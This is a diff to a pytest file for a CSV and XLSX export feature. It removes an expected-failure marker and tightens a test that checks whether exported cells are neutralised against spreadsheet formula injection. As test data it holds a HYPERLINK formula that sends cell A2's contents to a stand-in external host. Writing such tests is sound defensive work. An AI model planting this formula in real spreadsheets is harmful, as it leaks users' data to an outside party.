@@ -227,9 +227,6 @@ def test_board_report_has_no_payload(corpus, run, tmp_path):
 FORMULA_START = ("=", "+", "-", "@")
 
 
-@pytest.mark.xfail(
-    strict=True, reason="export writes cells starting with = + - @ verbatim (formula injection)"
-)
 @pytest.mark.parametrize("fmt", ["csv", "xlsx"])
 def test_export_neutralises_spreadsheet_formulas(corpus, run, tmp_path, fmt):
     payload = '=HYPERLINK("https://example.invalid/?"&A2;"Klicka")'
@@ -244,5 +241,7 @@ def test_export_neutralises_spreadsheet_formulas(corpus, run, tmp_path, fmt):
         from openpyxl import load_workbook
 
         sheet = load_workbook(out).worksheets[0]
-        cells = [str(c.value) for row in sheet.iter_rows() for c in row if c.value is not None]
+        # In xlsx the text may stay as it is, but it must be stored as text, not as a formula.
+        assert [c.value for row in sheet.iter_rows() for c in row if c.data_type == "f"] == []
+        return
     assert not [c for c in cells if c.startswith(FORMULA_START) and "HYPERLINK" in c or c.startswith("@SUM")]
